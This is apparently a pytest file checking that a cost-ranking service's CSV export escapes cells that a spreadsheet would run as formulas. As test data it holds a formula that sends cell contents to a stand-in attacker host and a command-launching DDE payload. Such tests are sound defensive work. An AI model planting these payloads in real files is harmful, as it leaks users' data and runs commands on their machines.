"""CSV exports cannot carry a formula: text cells starting with = + - @ tab or CR are prefixed with a quote."""

import csv
import io

import pytest

from inferledger.csv_cells import safe_cell
from tests.money import per_million_text

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1-2", "'+1-2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.25", "-1.25"),  # a negative number stays a number
        ("+3e5", "+3e5"),
        ("AWS", "AWS"),
        (-2, -2),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert safe_cell(value) == written


@pytest.mark.django_db
def test_the_ranking_csv_escapes_a_provider_name_that_is_a_formula(api, make_accelerator, make_price, make_run):
    gpu = make_accelerator("Alpha")
    make_price(gpu, "2.00", provider=FORMULA, region="-us+1")
    make_run(gpu, [{"throughput_per_s": 400, "latency_p99_ms": 9.0}])
    response = api.get("/api/v1/rankings/?model_class=cv-classification&price_kind=cloud_on_demand&format=csv")
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["provider"] == "'" + FORMULA and row["region"] == "'-us+1"
    assert row["cost_per_million_usd"] == per_million_text("2.00", 400)  # numbers are untouched
